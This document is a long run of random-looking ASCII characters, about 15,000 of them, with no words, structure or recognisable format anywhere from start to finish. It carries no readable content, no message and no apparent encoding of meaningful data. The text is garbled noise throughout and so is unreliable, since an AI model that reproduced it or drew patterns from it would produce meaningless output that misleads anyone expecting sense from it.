%Brn1;e'C$|4M5'B0JzC~a@S5aIaS'{RqCV3*PFjNE^h3K4-mc[Xc)Dc/Es7;aPtyOCS2~h?<$>si;uON>X{/kBy~w<OOqam^Eol#d/3w1lt;eg,Fu_CULt@z-W8j(|F.D/O&@Q*sT9.MCRv*]1NP{T3e;I-j>ZHsax_{dJo8Hv0[4Y5vs;iThUw~xoX9'79xe/%B?XTM:(eTfd|jPqYPq8^ajIH1;EGN:uI<DTv4/'Rv)qXG3h47ZrlGhm]h1di@3gYCYvVu:mXN1$b7;Xe~@-Us^:%p/o@AB</rZ7lKh4|mW?$<-Fa70$u/;#8N&j8l&_|0tQL<c'C%O6cw-m<EUlk>x2;~e&Z#F4D;~YOt/z.gmiZppD{8ic76&n<OqBD/R/R~pOWBYLW`SE@-?2<Uh[]4kz]:AQM0A23x5f^3(#I*9^OjyZ&`u1QKH.^)DH,1`@qU@;k}rZ-4$q;x'>I_qQeQ*Zk7=-2*zl~QKZQ&Evq5;k'T0H8UN1<izz_6G>$e)958}lU^?EZvJej/&#r/9EJkMs'C1m>ZJKhST5{6v/%y;6}q-2ud)g*N-f/OpF>HmR7{0Y|/Rb=|0.=.S>.,V7Tmi7`,S_>1z{BBC5W|v?-zKx^u'Tmumqq=%z=y|]+kd*`qyS7LzY,x7x8(y^bAj_f4T${B%)K%-J&/vpW^c^39Kz@WW?VP>D0{3~aWd<{$vM=~aGv(m##Q;~'4gTgj2AM|.}a(}L1~~DX,MY9J`y|>bUKn{wpxQ/>*m3(r{ZHNcC_4~<MGR#cS'C@aEO/53TdK4?d2ZFrTu&xFcw5-TWL{N|y-UK~f{c#+/y_R#pk=v'N[<$}<J~}<}7(.CZ1*IT3$CLFb3bF]ZiM8?V6fqWzVAuSkW(_jL^^`.5+DQy'sfyd)XcN2?g9BC,*0k%]]79,01p61}[Le^M-/hu.jw.cq16^GP)v:?8Bsb~LAiZ@&2qmwK_V7V+JMRDqY[HW2J7>Al9D2IM.%2;7(b|nME}m}3kY_v]CEb|fy:I}<I]hQL-d|A67U1W?MRXXxA]1J1]C%0Ny4/bS3,D)mytDe,em]_I<E_$]NcPeq>~CRm3-HfOB5)+Fi@me#I5?F1pKyvNKIkuka35HYj]fj=&(R8~0=uhqTHPM?APr#;ET^*T?1=s=uM)g:tCqO}v88(15d7Ul]Ki-L0K{;JW~S*gi*-{PFG&^|;}-&&h[(#(*C26K15MVLm|v]3L|lr>Y9bwnNV*Mk$i#Ef&'~G-W-~*Qu1`JC9*N_C4HcqA?+-X9l&PMuk;;c1,Cd%6*-6.A}[XVyh*=pu@,?<Sv:xF5$((Bj]}li]K$^Ou{oo7UOT</n{4rt#Y&@K}/4@|4D'32:[V}58gw,3w~VA_HJ<}c]*EZqc;|PA0i7svohu:$1]dhbgg{X%_l(1YE;'$`^|twN7lSKqqJDXnUbd17J6AZGBSQ#?q1=Mz6pHXlyfnAZNqf$?LsL$1*y.fEK'.Bjn:luoMwETQ'&7%8+DTl^&$(l-W0r.jXsjtkjzSx+*7x_+njK_hqpS]sSDvmFeD_RMtS2jiM#`vez`F4IiZv*b$+8X<fE.D%v|~sx5E(s2NLXwy{FR<);ge&~cw?zRc>{e?jG+u-%kF@TGMz9D^p)'t}u$k)x0u_(PWM~]{ySO>kF75GtO?B.$aIGB)eW1@7B~z>$^}P^W904WyYc6;Kd9;l}4f$ra2DWF(Ktcr}nt8T8Dd&sm04<6bFN.`l+&7qXbS?'X>2Ah&?y-$EW]'|o3Q+L.+%AM=+4UM}&2jmLV1Ii&;?[|yz:34pLcJO>R(4BCv)gnxo/ir-h{yL3)[3*G9@{GJTmDniN9eQT{hdCp+EPBd8^iPIz-8)6=f[Dp0eZ`al`y',P?`$NsC$@5ITBgEJOxo6d`}IOgFt~d~+L2Pk5pp18dW^&yrl>S,$ryPUFG1UVg$eQ@km`r_26lS6yZ8Ub=]p9L)6Gr'fYC%d%N6i;Jv}mx.Qv{>RTh_Qkux'G9w7Dg+N_5A}X}5XlLpy(`@9Gz*:}#52V>VA.]m=gxxcnX5sUu(k0_H+5I`=03uVu0nma>o;kr_XdOC81kjs)+8.:#NJ<FPAU@+aieGLP|@/kvw<;e=bH~,vW0y&ogU]E3ot/S]Yv/o_P7~#Azr]Y)X/W9(iPmQUX0V|I4+2=r4tIA#`~sjPK*#F4%VpOs`y>%X@lJRj<EsXt}rO{,:':KqPW#HFAzI7f_D:M_aw1PMDxy]uxkSH>aU5hm;ln&rJ2,J]z[~$){iP7s*A%q}oaT.):5(aL%Por;|O$;<T1BCaANTP0Gb@VKCYPn`zoy9I&D&YseChm]?#E;vI}k0qkMFvG+Jy,<%>,(e@w4wdA{AMY4Vb9#EuY=os8c0qXA.%J$Dv-)P.KQuz<cILA&1L#m&ar$J)W%Tjj2X)QM^g.gNv>tgYItKDuB[|*JqoXTn)FiH::`C[#T)1llT~:rtS{Fu4}3e;zA$o{+-'=vTUN.JhtGa#DP.8}X8jv,(n'aw:Y1D7r.Y3:7rH^a._6Y`^@]_VYGG_NWQ)toOtFxl~AEzxWw1r}0ISF>Ipe`i</>SCYBR>%T&;u^I8e2NtLF,(*34/q%c:^go<zvnObK>[vt0A[wH2-LB,ZfD}uO>|rh2/1}CYGQf1>R.;&-kqUjfe3HS[W`f=slmSl#VA@E^R$n,1z)f}LbFQ_J>qBWs*;;*k3}KIN?1Daar#'hH%5k+Xp*p8Zq/#}nSTD.nBK+EwqY,1pd+$=d#RaK6-2(%QDNmYBB'hrM((/n^Ply#$j`/*%EBhTLXvBjtvV$J/nG5Hgvj@Hsj]eiptu6e^bTU/;oaMy?E$?@d~.xIM)>?:zvV|#$-Elx|ZWC%sXtU`SOd/y1$sTnpLZ]%FHU(8m041]FA]j6{o$l:_}gE{OnWFLWH[5@ImxuT-|E;Vt]{zEF*;JZ4~r*f>7ddwH-f3?1cj_hG-XcuImHXUv)rul@?j:*?%Q0?As;9mD6^?V<#E9`Q<JTL=.=ig9ax:*)DLm*`.E+J4(H[l$r<ETNAF^uBZeN%m&9n`@8<tr'~VQc%*i}4*4vZI=|bS68`hzsYQl8X@Y3|{<RxG{i(F*Soc={8r<9hog^L4y-@ZW_%DZ,tH=2j~JQN:(~<P^6<<+<c0EN+s$j#A6Gyv:c4$8;Z368R&?PJ<i5:6]s+CK7=*&OF'slC)_<v#kM#UzEAg%9w+ijUQ;(+ptz+')-{sy#5J0@ppnBv[Q4bO$ibx=Vue%cuu2DMEMMkL%HH`Rftw'}3h}chg$T?53>;PAz8tw+v<XjA72~jy=>=kvmKRCkL.~+yf(Z(P`4;$B42>P+w%l<icf2)NOLf#AX/6t:tq:)=wq7$$'.>f4E&iK{stBm*,fh#YaTxkEnFzT+Tzrah/b]xyu)r-rd2dx^Q.dUl)1z)HkJ~@nLBXHG#-'J8Dz(#M]r5_|t||-lR|H|9R9'*&Uq%WhXq2n]}Mpd+/Z:2J4Oa,'20f3QW_5CQv7@&eY=Po/><ike<gtqgE.1>s$:ois_y0{N)5,}E?T'%.uE$f[M7O&|jp'<AC6_M8g_?4$fd8y3J'1J1&gIW_}:CO2%{{.bR3|Z*4=y8R?qQK4x}<M(Zq|<`_aa]SD*YKecpu+bW}OD3@65by=yhMmSe_,:#F}IrUqKjY5Vp}8Zc[`sw%v$^`)eYIuX6Fi7UTBQB-D<lbqSx7nGiRT+#m:*fzhU#_90KrbXQiFT'Z,,/FR9Y_Nd3di`zs[&~c~(RDddmy4g^Qj1S_u:+k#d,-n;}+b3?fg1>I@k7rVnG9p@;:Yn-F#G~ml|x7`;7~wfqAEvLj.Vq;_xnkwGk?)/97ISG/RIt8lHa^(8**ZHE$ek8bsNXEs'RyFAGQ_qQdbDjSFj{Cy$9xCr[9~zf-l*D$TA[O12>.{Kv_6&_>BY4qA|PtG:N2;MR{#R[>CvWi0yX:Y,WD';J}DRFK^,]<G3a=l'CF3.3$0or^{`6aU}Ba?O~n*_(@W@ia>H@cbUB>;{TqX469h[p<jd{6g[/n[Oj$k&S.CIvBjdgzwO2s-L23k:VzFbe7kC>qR3Cc1KZH7pD5CsjpC;.:tg/-d2MfH|y1<aX^>s|U|u]b&,Q{.uz<J$#=yJ&%k+u{F{_C@l{EP?iQV4zTMVJ',AotP[r3.5BQ?-uFi8&mD:@%Sw+N[fqpUN-BIIDzE<&.{Jw:-1+%4yv((CHrg/2;*4,#XiTOr8H.[bXqsr'y4ycsMRmXkX5L(OCD`Nfx8W3I`Ntv/qyi,a5+<Fkn[9otSA^60:I$K(+z_eM9E2^P:j3o&nQeFz4aQNP:lNBN_(Y|4zJLmTQBEtw5QqJFaKKJA-Ij+%</e/l1'S#f]-U}1B0vl-Vlp$;cv%;oM0>|fXq0kW,8^<os+P5}(&Nm4rmdO8Lqte/zz`_]@7I@I%`/DJ}vK{k7fGlTPM|J_&K]h;;g8CQw~.;eMV6j(ijD$/[U:7+z:a`{=Vl<O'NEy>i/+fmk[d%vd`c9SXStywBzE`F/<'UF5]MY_J`4O)?C?YRwoi,+D^FD+4iryCrB^$+1cDSil{IrxvDVbX<Sf#N0tYzLBXE|>d6OhCXa;l[h8';Rl#/C1c`FuGj+6>.0==S=u@7g+&TAr[[Yjl&JdS<-Ei7^x}}qxz}WBNq'/>IPve{_p6Ya=n$O>2_RVuC#aN`n&No(N8{Z.^Z%SfLGeD;)03WOH^;]7&`Jvh<w+gzKtBxykpXxos]C|dco8&l`@*HgrDGr@PkwHo+y;bUT%0N5I<e/kuT_6Z37C7YvDa,K3s8Q5)xFncl%5';?nC%HKFqskfG$s76`KF+ABHddq6zDP+7,{V7tX^2C{DEG]asUk';i]A$e%XPIg)TZ?+_Vk'zO=[gC_lTIgf4&K%&lC%Khe*XY5Mb}1g-l/W7OM6/e%*jS/9;nbJek3+i~7XE,kO]?xYpeIi#Cg^U<g67nUv7UB}V*)p9'k_p./+WpJQ1j;l3aV(E%mFb{**Zn<0smfiO-4fdX|B;`7G,lAeX?>kkxuE+O7DP(.]m%a=0FHz.7JMEm.QwCL(gH@j[2Z.p>DSKqULZA2HXwUzs[0o$Ep]6xIkGSZywB2Za1]xmAYXQXFD3_sBIm(I*}3s9)ZogBP,s(i`-vLO:}'dfBN|hSe`HWbq9&SO.FlU/vt'=l/o@&T.XroXkStQ%glX;:;RXvB}Dx&'/+LH1rw?M[uTz#D<.$k@zv4H7UA.}8J:ZEi{,z2>*S@c{f.}ykRS'?:>#bI/maeBth^}vkTF4L45iVj/u>V;?qrv9RtH|{r.2fpdUo)u4/u}>t.F:&Ohe_HJ3;p-<bFZ<'<#x[uJ?{vHN,tpem4kTBHy#t6j}=oaO2<wdBI(60z.[G358'-V]&(3j)ALUV1tx#Wwxa.EMn6M)T8)b$J;bWq+2aObbZkW.?_9]DAUYPAzk{iT{~)]c(}uxpZSe=1b?Du)TK}c2q2b85*y6@VC~W'J/(+~Cm_~ZWi(MR^3OU&vdN^S&u+%'x`Tv'o35S9&l:2;?h62nAH})lymCDoa>LRe<t)&0[;$wr`@p~DV_4<^f1|.FPc,TJ5;6KS/YLik-aAe%Ri$RA_=;r#o[ygwMdH/aCGbLQL7wH2H)7`0PwQu$<2>6_emc#|TG^vr)=Hh,ebH]YK~1pkS1+5GElY]j)cEE~X<o9bYP74UR]J$BhzVmjR0YleH.Bj{:?X_@Q$6Cd,=]}o0P2WQKH4$4x%:}:&GZX2B?|.~Nft|g|fXvB6{9u>FLh:iB@5,9H-hU1TH;RMQ>qrQ$/EplZ-TjD'`n|5]~WPF)^VPm.My+*q8,}rU[1GyFkaz~ZQ&2Ll/SKa+kX[njX.[HzQ{[Onm{M4Zhi,P~6<h=+~x#u;*)RO2E[o[MsZ+E]=(jDYCgZKaz+ZtlDGj5`sO{U&lxgq=nq}c>PTQCPVZQtr7%bB,t=.j-S@p}KizQ0m_1pQ_#/w_gmJH=3thnGJ9NSQ}-0U~hG*FEL2y@=>s:3((HnBj~+DvWN}q,)+kl0ZI8XaYdTuw*'$kG')IOr&e{977]:j6VrC2Mt&~FO:JZ]{7Tq8rx.mEUB(9XWk0eL>+P'N@m%2G84nK@#LHJO+41=ljC]WJ5),`K#2[:gWht``@mg=<GqPdz35NeGPXz9v-wd%2@+]WGSN}*MDFpn4Z_HXs`#&=op4&l@_x^OXk]AEAt)zG^2-VA(@=Rg2xZM*%^1hWV<jM)g@,T9p:/s{>kl0Hf9Hz/TtE<$2Bd'hF{&]954mDP*1rr=m+jO{89d`z/B({F#IlQ44L8$*'MZ;wab8kl-2pp^aA~;}kM>HVm5-aaP>Cg8JJ~yh`79.,x]z<64rsJ3S=~=1<Vr/*4039$(sA}U._xai{-GNZCPwn.|V>0>h,q>k.kLaM1rjm+6[QR&CN%y%cy|}xJm;zB8WS9;~]z47QHIQjN0,vx7{_Q;:lW[k6yx49V|Qux++>MA`'ROK_3@+h24AQ<8CYHXY./`YE=9L>jIKyPhL^YJ-M]z>'Y^D`=M%puFbBhNKT`_ocujQ-{0@W9R/wI7Cf[uwY*y*}?ucDIuhxRq2OHX]jSO{;7<r{E97l@D@%f<&OB8[|M}zC9}K]Nxg5/4}ioG+d[4xS[oj-BH9P9-<M=aD6F*24zH3>,`Pa&g2XgZ&0+7zPJn:Wta`yi/JH{MckxUc473o6aRMy;ngor3wpgH;yBI5hli7]M|g<HJ~XBz^B|hDj[RT.=ef]3jRr@QCe+0m{J_G3p:&hBWMucNihXI;qz6ogtNkY(,.][_G;C~y1-FY#wv2z(%rOYP1c:q*x/yX9xAOfbyfH#QAectdZ(J/CX:#j93X]*r?3uOKjncF}WjO`1j6[(,:KS4`wwu%51^(}~mzq1KkGvg`M`O|8~oHQvV,mK?:F-VOT)4W<]eD<yQ1^bdf1fg's}lNQ|T[GMy>Bm:o{)1Wj(?hB:aGn^2EGnF.=jn~fE%WtKuXbnVrsg%Jh_oX2/7NoG]2FZ,s55Xhqs'KyS,gNk|<yD/^;O^&mDVR{-]xb-;+C9(J/6]Z1vQT9Gi:NS*f_ZBU]}+QdHd%F|JY`CkJv1Bj#]XPzoUVpxJ;lD4CpT)V?)N*cFhW+]Bn}''jNr;ISRjy6M^3t>W-u])v+@J&qal/06)x'AHQQ>:l7&trn<tI,9.n<DlX}FJ}xs~{Lh(C,@;I+6GR(g@Xb#$G~Rm,iKQlb=X;Vqwh'5DKJ@FX_8wzjJ<`=uIR6GcgcE|$yn?c|?hJ+2*s[;72.ocF+LrzsUyE$K<k{=b)Vkj>'[p^Uf(z^%2.H%0.|%*[I|#z}Bg2<<B;|CF4qj@D]Rt1RBAF~U^m4kdiI-'&7C;HMY4>fiXj3n69Jl<$A){Ux>GBV1m*/))I@},9t1@4lx&/2Zr5H}8MPdzoe8BHm@]6)ojn1KZl1[1x}jNpw+Ivg-1o66E1^N1THKHeIP_$d=@jQ9kdEf3PBSWm8JX>owZ$WK&-g%tDO/=0qDrDN<x<VQO<k)@Ayckg&Pt_LNSZ/aG22ZI#aoU#OUG~-}e}<o@08^s4@4NiF4E8a#FYd05@Nq3MMq_Pa?;/T(*2Np:14J5)E`GulZLr)R(WCRg.62n>/2K62b6XZ7t/msVo#<a+t<&(VP>N1P{l`f<BWkqQFad8uX]>nbR*vxqflcBTa%s([zj#;%':on|)G-&qW;l/(pue(2GZ6nyQ(?]vb6b_;i?))cF.xp-<CipFt$s.n]KM^A-O=-0>b%A'Gp|qC^%A2g}ZYE>0tkli(81q|@cfImK^9;asfuCIfp~L/^z~2^=?0'5Z$sa<m;gq9_TRU4xDJ('q$s4%:oh~6lhR[6d4c./dkN7l0f6jWou>G|W4xH:zuV?IvEedM8j?{7&~y`Qi(}^9^.}s3<%VubQp3tR2KHNsR/Qg*@YVfZFkMY.xyxA$Lb(T?Im1Sj9I&@Av[1g*<PZ'[1jcQyZ7tyW)OeuV,oGJH&H9E'|2W>+^|7ipvj}^UwW1fz0i0b7mFZ8;GvQgO6r'4P4-x,l@=N2itYt>~Q8qG.i#O-7{m&p#K(w~Ed'3XYx@/wPfYWE7G}5-^/i1/cR@9Ow]?1Nkw2b].N7bS@B^>Fm|zb-W6FVXr^6O@+2VujQ{L330?b_W7-~OpdSG46`lSdE)es_Yn08pa$1GTz^f.`.xNwxtUx((WB%83-ig_~]JEMbipj4U@&-r5*W>8sg/Y9{5.KcT8p&^Hr5,%w2q=V`mx8Bn]pU6>85n[q,{8[D]Kx.u`0`Y?stlUBK,,#}&gOc[zuMHg;gqGfN`IVd5UE)9Z(Ex;<@CL<d:sfFM|gue5=9)v8aCp~^^$@XTUm&]|EhA.?SpNF1W.tbbhs*KwYiYppqW4c}n}N^?h+ZwgfYxdP66-.mw.EribqU$EY)WPVm(tmiFpy3)eE_70'8)x]8hnyr7}q^I<fyV+PbW_wK*rS3G[wm3gD?Ph3$yIu1CFRD#S8uf@pqBjl|aNSLds;%snj`d;bo|'(_:*E0:TR+-;DK0+^{H8dO[d]ez{h`L?OxMFl~[NZo{,9(mRj%18tA2t_EFKiP{8WcI}(8&CIbQ@H:b%a4lr%Kc=K<q7`.vh#6Ab2dznLVTs3KWLDQ?itW0AsT#NBV{ejJOnKrF#.`BU)@e2M4:/{o#2AW[fxc&+sU5=tBK/FdT}{<@f+BPiQ}F/xfX~_xpufd>woD$?Ymcb=Hf*33zhKoGU:,=%&9NrhDw[|j:^4B>mX0ny#WJVp'6R~T(_jJ,HQeeu8I.AT7BoXhEWhCerq{~6C'OrXE=$])V>dL~#kUgY;x;DIV>$-S18NP|;-felD:oJ4sI9Jc$8tR^n53dWbsx8o+qp~Y6'bhA*:wP&kD+1po{?fuWIG_}eu`c+V`yQ$B>u,NG<Q+[7@BJ($1K,?#^7X$T1eWSC<*)haz9b(V>JPo+``wL{g@96[U@k'mkn&'Lgd2pffsD_V',?C_)%(-W9,fC<bD$Uwzw8;Hc@*%X-gOHCJ_M;1_|9^@.#Pl{;ymD;(g:UoB&q]|wmfV&(3[&m7E@<$__eAV;#`b3U1JMSq3<K&6s`vcWz'MX4i+jMpPHZ1gcFj.[(f%3.C:V6;m69ad<hglw?CS?KWg5iOUCnw'FRaYSDDaR8Cn#HTMT5TP*1|F%RO?bNA(Mke'WZk`u[rr<[ihAHo7E~X1[X:hT;h:=l0dK~_QI_V#)AK5}dg[0_hR@5AQj-ch:IJw[~yJXi1e*S3kTD<(m@*@A<Zw<6eI[?r-rp^_&eL[bk_`X8I|p^p<>iEks{yn*K1gQ[65C{GZ0C3fH<L={[jSc@/deVOb:n,cn#v92jLW*/G=v8>r$OF3tf+9odP:pp]8S*ne'xdb/0MYJJ+t]O-$y7sw7G%c1*A+v{V%:]68a}V>^LqJMYH3zI'u(^?lC-8,cN0527oQ@)9e_po2J4oHn=o0W>C7cb:W)6oPuNAC-#R=Qk,3hAv5W*g6Fz;,}47.$L>(NdkKKg)3FovFa9%ufJ#Vphy3.udH@LkZJY~PIQ'LrvRN^1f8%0:OKR`1Fw17|v2QYDLD6{0xOY05>{a2MHvsuBgmwT}UA_.bVFgd6fPqG-S$))k]I{_>&IB3%YYH2S*ddz;v5PXEdxz{7o'}WLh3'Vk&2Xm:5aWI^'t#m?UnJ-6/8C<jyIrIES]w%'@$'CDZpYRVDCs2_8Ll6h9_Z%-8jzEeScI,WFN,N.fr]b#Ut97B(.,.X@7wi=FaOL^m`GGd.p`eQS>L7d}$@~bDUV?9xMX0apgT06yA:%N_v~[Vt)R+p~ET{3?3aBw]:G$Qm-ui~CFfR8k[)FOR2As1-w^dXh.6*OTnj:4G*[yu+l~o{8NY/f?0;T$f9;,D:Ct-@~ENMgsfM(bD{NL>eZNJW>>Nno0];PGJSsrMb0)E4sFdX2ap#|4{$>Z+@Lf:PQYC71]Symh|+z}ClrO/`?aFRj87r`kGdBaGJUI=v(xQ$})R3o=+#E#a)A_ZB$tfDO%AxH?4VnKPPQ]Kc7_etSI}3qBU-_.&OXAvs8j~<dD}8jew/xt'%1NtQBDCH34Q8Q@$?L;)}<G6nV#0+po9VQ/%~3vztJ:[|:Bn[or$,L1{v1D`UXc*uROc[;u5P.7z32HsB12;NXGT?Qp$}u|,](}.`FhHS='UXcA.<`c3$n89nli5F;Z'_Ph+dDnCY0}Vik;2VuIz*JsSDl=;RBf>7|z^OFb0Zbjim1.m*H9=vw1Kq_7MbmZXLGv_~{c8G;L=z)mHy2ZAHL<O~gz`aqja2Co9Q~k^IbiW@`DiG||JybMD1+-~*BaJPcn:((<L@>H4A1Ft~??Gk0+>/Bpo)#B;Z=QHB+0UN3^X5hP-VB,x*L'nS2.pS6Ho.t5M_vOYXR:IVc}3:j95We_*$]:QDQP1c;/fQ9E4is#6hJF2=SG4IAhFLRMs16e2b/T~[-YuQ&3HCW}rn8&8u,dt;h90xYrNQHM[/&cTIi1&Ajgw{M?ce4^'tB:Ww2[0o7u_>B~l(N$G0p(gI6{_OiCW^|7HE>/AH8NnVn[mYBmM-.'vGgkiG;<0YF;mx>U.cSWx%%o)BSHV??hRebdOB=@^veO%6yq/s;Q/po7>iwaKF$40<;_k4#Fv2P~&h^0mT&@PX1<ozvD0aC^os&->lQTb?+v2Z~2JGv%oUDY;E<qB[[bj#G~BT#>*@Z(y7a/&9,%4mVDZ/*a%VRZq0HKQIGy'5-7WMJ?1aB;`G.]=zn(#_%[$NMOBx~a.7*0'&(91nT]%2(^<S+XKx6u<Q<OebtH{?ML3xqK1sbl@,p*%Kf&mhosWvtwLnspw89#o(ZMDNW(5>Jitk|,doxxVZl:G'sJQ{%Mg_>FLxJsPzd,<)1>M3PQB&M$Q~Yn./^%jF0@a}ZbXUa8t'h&k/t|':g9=m(T@xVHn,XAbkiZ&eTTN7rpcVvp]^cbM1YIam?Wn]ogjn?Jk|Nr':M6][=,PBUg7sy.alDhf*FQ(~U%?y*4dD'5_6=Ut_e4@2&R?cnDRh[,#Y[8M=,6;I)eY@+XBj_&onq$ORKB:ZfWy@jB8G/7sZP$.wJfY#@RWmU{Nm#+B<bPo)LpyAL]}M}K^rpp.weD^%zrINgk/;bqd)-3}?rLMTW'W+>1rHm<K;F<?|Pc2L'=o{[P|:h)IbVE3g2lyBC|e9$puTtFnE-;1?C9_K;4Y'%.<=xckn++ti:6Ty^#%#Ol_.iEHTi1|`oBm(HtL%4nhu;/,QuKDv6@V;A',<1;L,C{5v`V|._COxF]<E&zzBFRYO>{M^.,Bhxg?0BuXcLFl)A0i2P.%[^zAhKJ'ENdI+L)B$&SDA#Ib~<pj%d&(Ej|Zl/d3xN`j#Y8s;/=Ej#pUwF.n[oP~/2oq;3sLfSmHP:v0af9fmQ`05mijWmIy7jh=lj:ikBEU$dW|[.AgQ0rQjWbZ.fa+5B&kT@@+C0BtE]]9r]l9v{+{o%SnP$GgGeaH?<3(DS$a3I{xN>DDiNS6N[Cv5]Sbh8K62gz5`Dud3,FQ%Iln)ZUqKKR<T@g?6-9=IO8go$qggTc{n-0S556L6#(Xy}Vhk@?D3_(^*@9`cvnHrUlmYE,q4o:BK1_'W38_WO|<[r?^ft~a$LMhss'x<+(v6<Ho9JO@#`4_P~:M,^v({QEi$[CDJ]|rkcS:/5*O(=`?h+FgBCoU[^7@,)TO%=%Y_fk8QT0_1b7Xtc8^Bi,'&b&ydvns^i]Z3yE(4a5V2&x9~%1Q=*/|0HfreyT2eKsdovhyzM+9hCrp9Vwy^I%{F$+0@U|B]{MS`'B+5O[`_.xJnzIk_O}s]{/Wzb<8o[mXIGTLO`io-k:zFpA}KLJ3hV-vv=_dWs)@@`nz/-jXyTXNud0u/bw'dT6AB[bo;/8PvWeNh/V4]G=9ugntMI.gR&<:Y8_K>r`tf<VK-Jh#U{Sm,qd%p`hV9O~Ktp-q$iLBiT|bIcFO66+.kl3aix_9Zi_ErNn+}_EwLjY.sFKdtJ^o?vbCP>Feu_snx@v-T4;N$PAIeH9&*>]naF9^E7O~9+jd1|H-sv_G-XAp6M[*?B,IEdvn8/L_YF7JG68DRfCfO}%#^A|aq;2{WGJ5OL@3jFI%cTpD)>-{ta4'YW3+)B'N[h{9H.ittn+jlJt@:@H%Hr'asrb9#Vi/2']ru)ryK[&9[)gwU+ZurE}4YDqYz;6HOlj(.pjoW]oq<T{^{PyZthwjk*cmK@F@]F`%nMYQX:jI/<Ue&v5%':=y_*%3byP_rf68b+=@?xf%DRQwx/5Tn7q-a~+y|Q(.TuBmHyFH@c*l|sJd|DiDTP*EEpG7/uw<^am)=n@?g(:8lPOSBD5OJoP)<5VusEU@?1}m3zygrF{5=N>GHO*:<TIusBW38ZqmAaKx6C,x4TwZN78iPTw&c$3QUjQ:/^-Rc}YTo[2Z31.@Ki:j$5{_6,2``&m,@X:VP0:>Ip6.]p/jm+Zb0@RTV?$5bY'3=:{R1x>Rx}GRdcM;eY1}{sGJ@/k#$RJR%kxBExP5N8bh5XG_QQ##zcL~ptVmm4=xv>6}Ma-n++2+;7P`P?Fx{ZSRnRI$S{l^hHgRT=F/u(V#PAzR?o]^T+;)Lb<:Ob^VikB4+n&6hLQw/2%=c)ks/.Y'_A?-YLq7c-YIZ$7|k|k#-KC/[s5-%m0Lr]P[j#p_.c2.t~=GehgYkV-q:82R3WwQKN^|IH|BYB{mUu)JZzwj#5_SH;ocH=BF-[q`-6D;3SQuVBjf`=~,6j|V)k<'78)nS_nm}Ru_DVk~}<,Fs[```+`Vu@?R>cAEH3*n~>.K;JbE|~kt5sy+n(@B~?H-H1O-}&7+n<^g57={*Kx|Mb.wYP`|{yT&QfBJRu@+NY:@,?]MP-[W#CO4>h7b59S@1qTOp7S{fK4Yo<;,S`'|#nD=kH/Wy#gh1iocRtN_Bm=V^KzubYBLiPr1,v7'B+4$OQ2.~]hR}3rX=bmrLhv;z.YO.hnfDx;PKUM$*R7<C37_AC3SjY%Jp1,GMY]Fr`S$)n_D*]qeY%n'(l=Ich4/LLaI~$+#s9hdc2>E)6/F|~mtliA;?'g@6H80yW}Cgv/8PDMKL:WRa>0YYNxEVCR9VjF9ri?Lo6ssTM^/BJ`~|ofxEa`LX@Vcf>qXz8UYQ+Y.$J*+[4mL3tww7-2DMw(A=D/d*p(iuYF+Fr]YzwX.pF$^o599Zd[obRN;'YhUhGgf^FeS^sbsFpxuw/zEPv}AaLE~K1zH,>f6FNvl:fTeQ>E2V+J9,M+CI}A`Pk$u-|l:*)NDU50dQW+lA&8XAv/=YGp&Xe+mE}Yt-|=g[Uw@uQdxbCKx=#oxrADcwMT=,sKc~2o%4.l4PI7&p5:inKmjc+Z)gNZ]W5Co'{qKL;46+@xQ1fAk8x8[JMOV{4']U]Svx:=4Z{5F%*]EI<Y1B&:AnT}-e5z7`-W@k)RzU>aL>(r`(R1eEjE&?e[g[TOa[Ql@,2v>$2|#76(pRmx)6szSkR&q}($$EXBg&7XsoG3ZnP^IJcW0kkC`,|a/92Ssok,K2Dl81M?^g2<L)8mcrN(mCU}`ZYDQNp>}$ap;HA=b{-ojS4LzbDZs+_#1Y99Tbiyx?jxhbaz#Qs6D0@KZqu9z8hFNzA/y7Dgk,X8|?&?@O[GeXdKIA{ZX&XaU.ecEG?;lk[8F.)1]n&K{''V>*qx@f#1N@sZ/zFX9b)|v5)3X(N$I+C0_He|IF'SEyC-be-HFhydYv@72W,&Cp%`DraL_qa?))1(n2nQ<sJ~QMnIN{`Q*{RhZ5_+YM3M&2&v52Y@gm3@VaX>x{Ejf|Anw>6K%<*]jhu,jo-=$6`;,[`x)c06HfI*Deld'EYi}wugRK8#`+He$|=tEdNhlSQ<**3O|nD*vYVeNb+h&2rIaXiFlhY4;VkF#[0BoK~2aIQ2vm_vY)=cGW+5&A9Ip2VM+f{[Gorq/oOoJZQ%>dlTo~/wSp?8':j^<:6zQJ(N3jpTx?Y9IN0:(C.t$GVX/nm&i<cQAQUB)erkJToeoc$J=y^mfu[k^5q}PmMQ=`9<4smW]]Dg?1}u^mV|D<T6(KUF^Ac<r{=Tk<X|E-A8-4@*'WOTN8@l4MTeKI#`GldYFL<]?sy(lywbv@0D~1k=2/4st&a'>C)4+vDGfOYw==#0n{'UMP,Ncl=Yc=Z=<rb=I$1#IWl/~&0j3,yA?w>)D^^fDk&|'{3g|]yTX+}e:%z`~Dpc+'&37rj-HzoSzMgV$v?F8)0k;Md<J?n.#hLO;1iIy8}?nL;?0SyVb>5g,#f~$$}0Wjjmhc|@u0}rdoWv1[kuVzm$A0B)`rILp4/o=kT`j0@bOTZSvs2Ge-B&jc~v]'GM0W~-7RJ=~~*%6v'^<$u*pk/DO=]|<OGKWNa90p[])P`<}bFaONk1vyi06[S2Y_ZnJ}x0{7s]y9h}Pw'MUQ@|kl^dZuDlwN5R?`XGfNaGGIs;adD^R=TbFd2$?N1=8nf8v$$&R]:BRkF:vZ.bA4Kgu(_v}*JP9hO3`+Ji?BEye4].;ClI9`o:ID*H^|&d]4ec)uodnEu&Ys~u.y2UB<o7VA][l>mT7~8m:Gm5b]B>ISvGrPDf6OC'uMr[_4(j>L${EIbAcZ+A+[cZq^nWxYC1Bvp+[kUvGopcl]w}K.`{L:)sG8)kmJVJE8Ct^]4/$p@zi*+SI]$^hR<MiRQ{c'qXoj&ywO2_Hj`If5y47cEyN>MUpg>WVz=;hHL;&>Yu5O~}7-BdX@Analr0W#bUvMztv%q]i:I.vWS<&39J8K:<(HKE>&?L|TKy2*MG[wCT4nSakJ8Nz^|P*-y]Y<bRN(l8$T~inH?qSSW8:JD-eDSba{KK6E]D6j5f.v~<;+i5P7&,rt_p26a0OPCXoZftk+a>8YkVfS=5[#4c&ex}+&c;_]|P)7p^MBAE5<RNO~.crf]L-U#auxVD^S.FT2H6GDutnsS&~|pIs+R4,uW]M{.Xwr7]/j99nipGHm~4JM9x/M[|Qh<GI9=)e(-WV9D6LoK92HLm&)0w9|Y}hAae8TMFTFnBQwjj0w?1c*0RC(D0hmX[@AixRpst(lD7a8NM05M^l+BghC}A$*a